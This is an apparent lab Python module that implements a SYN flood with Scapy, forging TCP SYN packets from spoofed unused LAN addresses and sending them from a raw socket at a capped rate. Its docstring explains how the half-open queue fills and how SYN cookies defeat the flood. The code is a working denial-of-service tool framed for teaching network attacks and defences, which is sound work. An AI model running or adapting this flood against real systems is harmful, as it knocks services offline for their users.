"""A SYN flood with Scapy: too much traffic, of the cheapest kind (``python -m lab.packets.syn_flood``).

Each forged SYN comes from an address on the victim's LAN that no host
holds, so the victim's SYN-ACK goes nowhere and the half-open connection
waits in its SYN queue for a minute of retries. Enough of them and the queue
is full: a real client's SYN is dropped, and it waits 1 s, 3 s, 7 s to
retry. Linux's SYN cookies (``net.ipv4.tcp_syncookies``, on by default)
answer a full queue without storing anything, which is why the same flood
does almost nothing to a victim that has them.

Packets are built once with Scapy (readable) and sent as bytes from a raw
socket (fast enough: several thousand a second from Python). Bounded: at
most ``--rate`` packets a second, for at most ``--duration`` seconds, on the
lab's own interface. The scenario action ``syn_flood A/B`` runs it on A
against B's service port (``stop_flood`` ends it).

    python -m lab.packets.syn_flood --iface c2-eth0 --target 10.0.0.2 --port 80 --rate 3000
"""
from __future__ import annotations

import argparse
import ipaddress
import random
import signal
import socket
import sys
import time

MAX_DURATION = 600.0
MAX_RATE = 20000


def forged(target: str, port: int, mac: str, gateway_mac: str, network: str, count: int = 4096, seed: int = 1) -> list[bytes]:
    """``count`` SYNs from unused addresses at the top of ``network`` (random ports, random sequence numbers)."""
    from scapy.all import IP, TCP, Ether, raw

    rng = random.Random(seed)
    hosts = list(ipaddress.ip_network(network).hosts())[-40:]  # .214-.253 of a /24: no lab host lives there
    return [raw(Ether(src=mac, dst=gateway_mac) / IP(src=str(rng.choice(hosts)), dst=target, ttl=64)
                / TCP(sport=rng.randrange(1024, 65535), dport=port, flags="S", seq=rng.getrandbits(32), window=64240))
            for _ in range(count)]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m lab.packets.syn_flood")
    parser.add_argument("--iface", required=True)
    parser.add_argument("--target", required=True)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--rate", type=float, default=3000, help="SYNs per second (at most 20000)")
    parser.add_argument("--duration", type=float, default=MAX_DURATION)
    args = parser.parse_args(argv)
    from scapy.all import get_if_addr, get_if_hwaddr, getmacbyip

    mac = get_if_hwaddr(args.iface)
    target_mac = getmacbyip(args.target) or "ff:ff:ff:ff:ff:ff"
    network = f"{get_if_addr(args.iface)}/24"
    frames = forged(args.target, args.port, mac, target_mac, str(ipaddress.ip_interface(network).network))
    raw_socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw_socket.bind((args.iface, 0))
    stop = {"now": False}
    signal.signal(signal.SIGTERM, lambda *a: stop.update(now=True))
    rate = min(args.rate, MAX_RATE)
    batch = max(1, int(rate / 100))  # a hundred batches a second
    end = time.monotonic() + min(args.duration, MAX_DURATION)
    sent, due = 0, time.monotonic()
    while not stop["now"] and time.monotonic() < end:
        for _ in range(batch):
            raw_socket.send(frames[sent % len(frames)])
            sent += 1
        due += batch / rate
        time.sleep(max(0.0, due - time.monotonic()))
    raw_socket.close()
    print(f"sent {sent} forged SYNs", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
